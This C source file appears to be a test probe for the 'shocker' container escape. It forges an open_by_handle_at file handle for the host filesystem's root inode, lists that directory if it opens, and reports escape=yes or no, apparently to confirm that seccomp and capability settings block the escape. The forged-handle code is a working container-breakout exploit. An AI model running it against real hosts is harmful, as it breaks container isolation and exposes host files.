/* Probe for the "shocker" container escape (open_by_handle_at), run inside a helper pod by
 * engine/tests/helper_escape_cluster.rs. Built static by the test (gcc -static -Os).
 *
 * For each path given (a file whose filesystem is the node's: /etc/hosts, the mounted volume):
 *   1. name_to_handle_at(path): the file's own handle (the kernel allows it to anyone; seccomp
 *      profiles such as containerd's RuntimeDefault refuse it without CAP_SYS_ADMIN);
 *   2. open_by_handle_at(that handle), when step 1 worked: needs CAP_DAC_READ_SEARCH (and
 *      seccomp letting it through);
 *   3. open_by_handle_at(a forged handle of inode 2, generation 0: the root directory of an ext2/3/4
 *      filesystem): with the capability this opens the root of the node's filesystem, outside the
 *      container — the escape.
 * Prints one line per step, `<step> <path>: ok` or `<step> <path>: <ERRNO NAME>`, the root's first
 * entries when it opened, and finally `escape=yes` when any root opened, else `escape=no`.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static const char *errno_name(int err) {
    switch (err) {
    case EPERM: return "EPERM";
    case EACCES: return "EACCES";
    case ESTALE: return "ESTALE";
    case EINVAL: return "EINVAL";
    case ENOSYS: return "ENOSYS";
    case EOPNOTSUPP: return "EOPNOTSUPP";
    case ENOENT: return "ENOENT";
    case ENOTDIR: return "ENOTDIR";
    default: return strerror(err);
    }
}

static void list_dir(int fd) {
    DIR *dir = fdopendir(fd);
    if (!dir) {
        printf("  (cannot list: %s)\n", errno_name(errno));
        return;
    }
    struct dirent *entry;
    int shown = 0;
    printf("  entries:");
    while ((entry = readdir(dir)) && shown < 40) {
        if (strcmp(entry->d_name, ".") && strcmp(entry->d_name, "..")) {
            printf(" %s", entry->d_name);
            shown++;
        }
    }
    printf("\n");
    closedir(dir);
}

int main(int argc, char **argv) {
    int escaped = 0;
    for (int i = 1; i < argc; i++) {
        const char *path = argv[i];
        struct file_handle *own = malloc(sizeof(struct file_handle) + MAX_HANDLE_SZ);
        own->handle_bytes = MAX_HANDLE_SZ;
        int mount_id;
        int have_own = name_to_handle_at(AT_FDCWD, path, own, &mount_id, 0) == 0;
        if (have_own) {
            printf("name_to_handle_at %s: ok (type %d, %u bytes)\n", path, own->handle_type,
                   own->handle_bytes);
        } else {
            /* Container runtimes' default seccomp profiles allow it only with CAP_SYS_ADMIN; the
             * escape does not need it: the root's handle is forged below. */
            printf("name_to_handle_at %s: %s\n", path, errno_name(errno));
        }
        int mount_fd = open(path, O_RDONLY);
        if (mount_fd < 0) {
            printf("open %s: %s\n", path, errno_name(errno));
            free(own);
            continue;
        }
        int fd;
        if (have_own) {
            fd = open_by_handle_at(mount_fd, own, O_RDONLY);
            if (fd >= 0) {
                printf("open_by_handle_at(own) %s: ok\n", path);
                close(fd);
            } else {
                printf("open_by_handle_at(own) %s: %s\n", path, errno_name(errno));
            }
        }
        struct file_handle *root = malloc(sizeof(struct file_handle) + 8);
        root->handle_bytes = 8;
        root->handle_type = 1; /* FILEID_INO32_GEN */
        uint32_t ino_gen[2] = {2, 0};
        memcpy(root->f_handle, ino_gen, sizeof ino_gen);
        fd = open_by_handle_at(mount_fd, root, O_RDONLY | O_DIRECTORY);
        if (fd >= 0) {
            printf("open_by_handle_at(root) %s: ok\n", path);
            list_dir(fd);
            escaped = 1;
        } else {
            printf("open_by_handle_at(root) %s: %s\n", path, errno_name(errno));
        }
        close(mount_fd);
        free(root);
        free(own);
    }
    printf("escape=%s\n", escaped ? "yes" : "no");
    fflush(stdout);
    return 0;
}
